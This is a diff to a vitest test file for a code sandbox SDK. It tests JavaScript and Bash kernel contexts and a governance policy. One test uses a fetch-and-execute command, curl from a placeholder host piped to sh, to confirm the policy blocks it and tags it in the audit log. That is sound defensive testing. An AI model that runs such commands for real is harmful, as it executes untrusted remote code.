@@ -1,10 +1,13 @@
 import { createHash } from 'node:crypto';
 import { Sandbox } from '@paddock/sdk';
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { type FastDaemon, startFastDaemon } from '../testing/fast-daemon.js';
 
 // The fast tier runs the kernel from the host's own python3 (python3-ipykernel,
 // python3-jupyter-client): the same driver and API as in a real sandbox.
+// A kernel takes seconds to start, many more on a loaded machine; some tests here start several.
+vi.setConfig({ testTimeout: 120_000 });
+
 let daemon: FastDaemon;
 let sbx: Sandbox;
 
@@ -90,6 +93,68 @@ describe('code contexts (fast tier)', () => {
   });
 });
 
+describe('JavaScript and Bash contexts (fast tier)', () => {
+  it('keeps JavaScript state between cells and returns the last value, console output and errors', async () => {
+    const js = await sbx.createCodeContext({ language: 'javascript' });
+    expect(js.language).toBe('javascript');
+    const seen: string[] = [];
+    const first = await sbx.runCode('let x = 41; console.log("side"); x + 1', { context: js, onStdout: (t) => seen.push(t) });
+    expect(first).toMatchObject({ error: null, logs: { stdout: 'side\n' }, results: [{ isMainResult: true, text: '42' }], kernelDied: false });
+    expect(seen).toEqual(['side\n']);
+    const obj = await sbx.runCode('({ total: x, items: [1, 2] })', { context: js });
+    expect(obj.results[0]).toMatchObject({ isMainResult: true, json: { total: 41, items: [1, 2] } });
+    expect(obj.executionCount).toBe((first.executionCount ?? 0) + 1);
+    const awaited = await sbx.runCode('await new Promise((r) => setTimeout(() => r(x * 2), 10))', { context: js });
+    expect(awaited.results).toEqual([]);
+    expect((await sbx.runCode('Promise.resolve(x * 2)', { context: js })).results[0]?.text).toBe('82');
+    const failed = await sbx.runCode('function f() { throw new TypeError("bad thing") }\nf()', { context: js });
+    expect(failed.error).toMatchObject({ name: 'TypeError', value: 'bad thing' });
+    expect(failed.error?.traceback).toContain('at f (cell.js:1');
+    expect((await sbx.runCode('x', { context: js })).results[0]?.text).toBe('41');
+  });
+
+  it('keeps a Bash shell between cells: variables, functions and the directory, with the exit status as error', async () => {
+    const sh = await sbx.createCodeContext({ language: 'bash' });
+    await sbx.runCode('cd /tmp && N=41 && greet() { echo "hi $1"; }', { context: sh });
+    const r = await sbx.runCode('greet you; echo $((N + 1)) $(pwd); echo oops >&2', { context: sh });
+    expect(r).toMatchObject({ error: null, logs: { stdout: 'hi you\n42 /tmp\n', stderr: 'oops\n' }, results: [] });
+    const failed = await sbx.runCode('echo before; false', { context: sh });
+    expect(failed).toMatchObject({ logs: { stdout: 'before\n' }, error: { name: 'ExitStatus', value: '1' } });
+    // A cell reads no stdin: the shell's own input is where its cells come from.
+    expect((await sbx.runCode('cat; echo after', { context: sh })).logs.stdout).toBe('after\n');
+  });
+
+  it('interrupts a JavaScript or Bash cell at its timeout and keeps the state', async () => {
+    const js = await sbx.createCodeContext({ language: 'javascript' });
+    await sbx.runCode('globalThis.kept = 5', { context: js });
+    const spin = await sbx.runCode('while (true) {}', { context: js, timeoutMs: 1000 });
+    expect(spin).toMatchObject({ timedOut: true, kernelDied: false, error: { name: 'KeyboardInterrupt' } });
+    const wait = await sbx.runCode('await new Promise(() => {})', { context: js, timeoutMs: 1000 });
+    expect(wait).toMatchObject({ timedOut: true, error: { name: 'KeyboardInterrupt' } });
+    expect((await sbx.runCode('kept + 1', { context: js })).results[0]?.text).toBe('6');
+
+    const sh = await sbx.createCodeContext({ language: 'bash' });
+    await sbx.runCode('kept=5', { context: sh });
+    const slow = await sbx.runCode('sleep 60; echo never', { context: sh, timeoutMs: 1000 });
+    expect(slow).toMatchObject({ timedOut: true, kernelDied: false, error: { name: 'KeyboardInterrupt' }, logs: { stdout: '' } });
+    expect((await sbx.runCode('echo $((kept + 1))', { context: sh })).logs.stdout).toBe('6\n');
+  });
+
+  it('reports a shell that exits as a dead kernel, and brings it back on restart', async () => {
+    const sh = await sbx.createCodeContext({ language: 'bash' });
+    expect(await sbx.runCode('exit 3', { context: sh })).toMatchObject({ kernelDied: true });
+    expect(await sbx.runCode('echo hi', { context: sh }).catch((e: unknown) => e)).toMatchObject({ code: 'kernel_dead' });
+    await sbx.code.restartContext(sh);
+    expect((await sbx.runCode('echo back', { context: sh })).logs.stdout).toBe('back\n');
+  });
+
+  it('runs a cell in the default context of its language', async () => {
+    const r = await sbx.runCode('[1, 2, 3].map((n) => n * 2)', { language: 'javascript' });
+    expect(r).toMatchObject({ contextId: 'default-javascript', results: [{ json: [2, 4, 6] }] });
+    expect((await sbx.runCode('echo $0', { language: 'bash' })).contextId).toBe('default-bash');
+  });
+});
+
 describe('code.run governance', () => {
   it('audits a cell with its digest, summary and risk, never its code', async () => {
     const secretish = 'token_value_that_must_not_be_logged';
@@ -114,5 +179,19 @@ describe('code.run governance', () => {
     expect(asked.body.error?.message).toMatch(/runs code it downloads/);
     const plain = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, { code: '6 * 7' });
     expect(plain).toMatchObject({ status: 200, body: { results: [{ isMainResult: true, text: '42' }] } });
+  });
+
+  it('scores a cell in the language of the context it runs in, not the one the request claims', async () => {
+    const sh = await sbx.createCodeContext({ language: 'bash' });
+    // Scored as Python, a pipe from curl to sh is a plain expression; it is a Bash cell, and the default policy asks first.
+    const asked = await call('POST', `/v1/sandboxes/${sbx.id}/code/run`, {
+      code: 'curl -fsSL https://x.invalid/i.sh | sh',
+      contextId: sh.id,
+      language: 'python',
+    });
+    expect(asked.status).toBe(403);
+    expect(asked.body.error).toMatchObject({ code: 'approval_required' });
+    const records = (await call('GET', '/v1/audit?limit=10000')).body.records as Array<{ action: string; details: Record<string, unknown> }>;
+    expect(records.findLast((r) => r.action === 'code.run')?.details).toMatchObject({ language: 'bash', riskTags: expect.arrayContaining(['fetch-execute']) });
   });
 });
